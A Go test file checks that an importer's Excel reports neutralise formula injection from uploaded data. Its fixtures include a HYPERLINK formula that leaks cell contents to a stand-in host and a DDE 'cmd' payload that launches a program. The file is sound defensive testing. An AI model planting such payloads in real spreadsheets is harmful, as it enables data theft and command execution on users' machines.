package importer

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestReportNeutralisesFormulas: every text cell of an import report that
// comes from the upload — on 问题清单 the column, value, message and
// ledger fields; on 任务信息 the file name, the unknown columns and why the
// job failed — cannot start a formula.
func TestReportNeutralisesFormulas(t *testing.T) {
	evil := []string{`=HYPERLINK("http://x.invalid/?"&A1,"点击")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1)`, "\t=1", "＝1+1"}
	j := Job{ID: 7, Kind: Survey, Status: Failed, Filename: evil[0] + ".xlsx", ErrorMessage: evil[1], UnknownColumns: evil}
	var buf bytes.Buffer
	err := WriteReport(&buf, j, func(fn func([]Issue) error) error {
		var batch []Issue
		for i, e := range evil {
			batch = append(batch, Issue{Row: i + 2, Column: e, Value: e, Message: e, Severity: Rejected, Code: "kept_newer", Ledger: e, ChangedBy: e})
		}
		return fn(batch)
	})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, sheet := range []string{"问题清单", "任务信息"} {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				if v == "" {
					continue
				}
				if strings.ContainsAny(v[:1], "=+-@\t\r\n") || strings.HasPrefix(v, "＝") {
					t.Errorf("%s row %d column %d starts a formula: %q", sheet, r+1, c+1, v)
				}
				if strings.Contains(v, "cmd|") || strings.Contains(v, "HYPERLINK") {
					seen++
				}
			}
		}
	}
	if seen < 12 {
		t.Errorf("only %d of the hostile values are in the report", seen)
	}
}
